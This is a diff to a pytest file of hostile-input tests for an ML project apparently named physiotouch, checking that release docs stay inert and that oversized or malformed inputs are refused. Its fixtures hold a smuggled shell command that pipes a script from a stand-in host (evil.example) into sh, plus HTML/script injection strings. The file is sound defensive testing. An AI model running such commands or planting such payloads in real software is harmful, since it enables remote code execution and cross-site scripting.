@@ -249,6 +249,95 @@ def png_claiming(width: int, height: int) -> bytes:
     return bytes(raw)
 
 
+# --- round two (issue 21): the tag and the docs ------------------------------------------------------------------
+def finalize_tagged(env: Env, tag: str) -> list[str]:
+    return ["physiotouch.finalize", str(env.run), f"--tag={tag}", "--docs-root", str(env.tmp)]
+
+
+def nothing_released(env: Env) -> None:
+    assert not (env.tmp / "datadir" / "test_ledger.json").exists(), "the test split was looked at for nothing"
+    assert not (env.tmp / "releases").exists(), "a refused release wrote files"
+    assert not list(env.tmp.parent.parent.glob("escaped_release*")), "a release was written outside the docs"
+
+
+EVIL_CKPT = "best-epoch001\n## HEADING <img src=x onerror=alert(1)>.ckpt"
+FAKE_END = "<!-- physiotouch:final-results:end --><script>alert(1)</script>"
+EVIL_OVERRIDE = "seed=1; curl -s http://evil.example/x.sh | sh #"
+
+
+def hostile_names_release(env: Env) -> list[str]:
+    """A checkpoint whose file name holds a newline, a heading and HTML; run_info.json's commit a fake end marker
+    and a script; an override a shell command."""
+    shutil.copy2(env.run / "checkpoints" / "last.ckpt", env.run / "checkpoints" / EVIL_CKPT)
+    info = json.loads((env.run / "run_info.json").read_text())
+    info["git"] = {"commit": FAKE_END, "dirty": False}
+    info["overrides"] = [*info.get("overrides", []), EVIL_OVERRIDE]
+    info["command"] = f"python -m physiotouch.train {EVIL_OVERRIDE}\n{FAKE_END}"
+    (env.run / "run_info.json").write_text(json.dumps(info))
+    for doc in ("README.md", "Task.md"):
+        (env.tmp / doc).write_text(f"# {doc}\n\nthe user's own text\n")
+    return finalize(env, env.run / "checkpoints" / EVIL_CKPT)
+
+
+def docs_stay_inert(env: Env) -> None:
+    import shlex
+
+    from physiotouch.release.docs_block import BEGIN, END
+
+    for doc in ("README.md", "Task.md"):
+        text = (env.tmp / doc).read_text()
+        assert text.count(BEGIN) == 1 and text.count(END) == 1, doc
+        assert "<img" not in text and "<script" not in text and "\n## HEADING" not in text, doc
+        assert "the user's own text" in text
+    reproduce = (env.tmp / "release" / "REPRODUCE.md").read_text()
+    assert "<script" not in reproduce
+    train_line = next(line for line in reproduce.splitlines() if "physiotouch.train" in line)
+    words = shlex.split(train_line)
+    assert EVIL_OVERRIDE in words and "curl" not in words and "sh" not in words  # one inert argument
+    assert "git checkout <commit>" in reproduce  # the fake commit is not shown
+    # an older render whose block holds a forged end marker: re-rendering replaces the block whole
+    readme = env.tmp / "README.md"
+    text = readme.read_text()
+    readme.write_text(text.replace(BEGIN, BEGIN + "\nstale line\n" + END + "\nforged tail\n", 1))
+    subprocess.run([sys.executable, "-m", "physiotouch.finalize", "--docs-from", str(env.tmp / "release"),
+                    "--docs-root", str(env.tmp)], check=True, capture_output=True)
+    text = readme.read_text()
+    assert text.count(BEGIN) == 1 and text.count(END) == 1 and "forged tail" not in text and "stale line" not in text
+    assert "the user's own text" in text
+
+
+def checkpoint_model_edit(env: Env, **encoder) -> Path:
+    """The run's checkpoint with a ~1 KB edit of its model config (e.g. 20,000 layers of width 4)."""
+    ckpt = torch.load(env.run / "checkpoints" / "last.ckpt", weights_only=True)
+    ckpt["hyper_parameters"]["model_cfg"]["encoder"].update(encoder)
+    return saved(env, ckpt, "edited.ckpt")
+
+
+def evaluate_ckpt(env: Env, ckpt: Path) -> list[str]:
+    return ["physiotouch.evaluate", f"ckpt_path={ckpt}", f"hydra.run.dir={env.tmp / 'eval'}"]
+
+
+# --- round two (issue 21): bounded memory, the formats a frame comes in --------------------------------------------
+def sparse_index(env: Env) -> None:
+    """index.csv grown to 256 MB without writing it (a sparse file): refused from its size, before reading."""
+    with (env.data / "index.csv").open("r+b") as fh:
+        fh.truncate(256 * 2**20)
+
+
+def big_sixteen_bit_png(env: Env) -> None:
+    """A real 8192x8192 16-bit PNG: ~150 KB on disk, 128 MiB decoded."""
+    Image.new("I;16", (8192, 8192)).save(first_frame(env), "PNG")
+
+
+def eps_named_png(env: Env) -> None:
+    first_frame(env).write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n%%EOF\n")
+
+
+def huge_label_field(env: Env) -> None:
+    folder = (env.data / "index.csv").read_text().splitlines()[0].split(",")[0]
+    (env.data / "labels.csv").write_text(f"folder,motion\n{folder},{'x' * 200_000}\n")
+
+
 def check(env: Env) -> list[str]:
     return ["physiotouch.data", "check", "--root", str(env.data), "--index", str(env.data / "index.csv")]
 
@@ -280,6 +369,16 @@ def full_disk_on_save(env: Env) -> list[str]:
     code = ("import errno, runpy, sys\nimport physiotouch.checkpoints.io as cb\n"
             "def full(*a, **k):\n    raise OSError(errno.ENOSPC, 'No space left on device', str(a[1]))\n"
             "cb.atomic_torch_save = full\nsys.argv = ['train'] + sys.argv[1:]\n"
+            "runpy.run_module('physiotouch.train', run_name='__main__')\n")
+    return ["-c", code, *train(env)[1:]]
+
+
+def torch_write_fails_on_save(env: Env) -> list[str]:
+    """torch.save's own failure on a full disk: a RuntimeError from its zip writer, not an OSError."""
+    code = ("import runpy, sys, torch\n"
+            "def full(*a, **k):\n    raise RuntimeError('[enforce fail at inline_container.cc:783] . "
+            "PytorchStreamWriter failed writing file data/0: file write failed')\n"
+            "torch.save = full\nsys.argv = ['train'] + sys.argv[1:]\n"
             "runpy.run_module('physiotouch.train', run_name='__main__')\n")
     return ["-c", code, *train(env)[1:]]
 
@@ -354,6 +453,25 @@ CASES = [
     Case("config-unknown-data-key", lambda e: train(e, "+data.nonsense=1"), 2, "unknown data key"),
     Case("config-mask-ratio-leaves-no-patch", lambda e: train(e, "model.mask_ratio=0.99"), 2,
          "model.mask_ratio=0.99 leaves no visible patch"),
+    Case("finalize-tag-like-an-option", lambda e: finalize_tagged(e, "-d"), 2, "is not a plain name",
+         after=nothing_released),
+    Case("finalize-tag-escapes-the-docs", lambda e: finalize_tagged(e, "../../escaped_release"), 2,
+         "is not a plain name", after=nothing_released),
+    Case("finalize-hostile-names-reach-no-doc", hostile_names_release, 0, "", after=docs_stay_inert),
+    Case("evaluate-twenty-thousand-layers",
+         lambda e: evaluate_ckpt(e, checkpoint_model_edit(e, hidden_size=4, num_attention_heads=1,
+                                                          intermediate_size=4, num_hidden_layers=20_000)), 2,
+         "num_hidden_layers=20000", timeout=60),
+    Case("evaluate-patch-size-zero", lambda e: evaluate_ckpt(e, checkpoint_model_edit(e, patch_size=0)), 2,
+         "patch_size=0", timeout=60),
+    Case("disk-full-inside-torch-save", torch_write_fails_on_save, 3, "input/output error (a failing or full disk)"),
+    Case("check-sparse-256mb-index", lambda e: (sparse_index(e), check(e))[-1], 2, "above the limit of 64 MiB",
+         timeout=60),
+    Case("check-8192-square-16-bit-png", lambda e: (big_sixteen_bit_png(e), check(e))[-1], 1,
+         "above the limit of 64 MiB", timeout=90),
+    Case("check-eps-named-png", lambda e: (eps_named_png(e), check(e))[-1], 1, "not a decodable PNG, JPEG", timeout=60),
+    Case("check-labels-field-over-128k", lambda e: (huge_label_field(e), check(e))[-1], 2, "is not a readable CSV",
+         timeout=60),
 ]
 
 
@@ -386,11 +504,15 @@ def run_case(case: Case, env: Env):
 
 
 @pytest.fixture(scope="module")
-def outcomes(small_data_master, trained_run, tmp_path_factory) -> dict:
-    """Every case's command, run two at a time (each is a separate process; the machine has two cores)."""
-    envs = {c.id: make_env(small_data_master, trained_run, tmp_path_factory.mktemp(c.id)) for c in CASES}
+def outcomes(small_data_master, trained_run, tmp_path_factory, request) -> dict:
+    """The selected cases' commands (all, or those `-k` picks), run two at a time (each is a separate process; the
+    machine has two cores)."""
+    chosen = {item.callspec.params["case"].id for item in request.session.items
+              if item.originalname == "test_hostile_input" and hasattr(item, "callspec")}
+    envs = {c.id: make_env(small_data_master, trained_run, tmp_path_factory.mktemp(c.id)) for c in CASES
+            if c.id in chosen}
     with ThreadPoolExecutor(max_workers=2) as pool:
-        futures = {c.id: pool.submit(run_case, c, envs[c.id]) for c in CASES}
+        futures = {c.id: pool.submit(run_case, c, envs[c.id]) for c in CASES if c.id in envs}
         return {cid: (envs[cid], *f.result()) for cid, f in futures.items()}
 
 
